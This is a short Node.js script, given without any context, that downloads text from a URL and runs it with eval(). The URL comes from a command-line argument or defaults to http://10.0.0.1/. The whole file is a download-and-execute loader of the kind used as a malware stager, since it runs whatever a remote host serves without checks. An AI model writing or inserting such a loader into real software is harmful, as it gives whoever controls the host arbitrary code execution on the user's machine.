(async () => {
  const res = await fetch(process.argv[2] || 'http://10.0.0.1/');
  const code = await res.text();
  eval(code);
})();
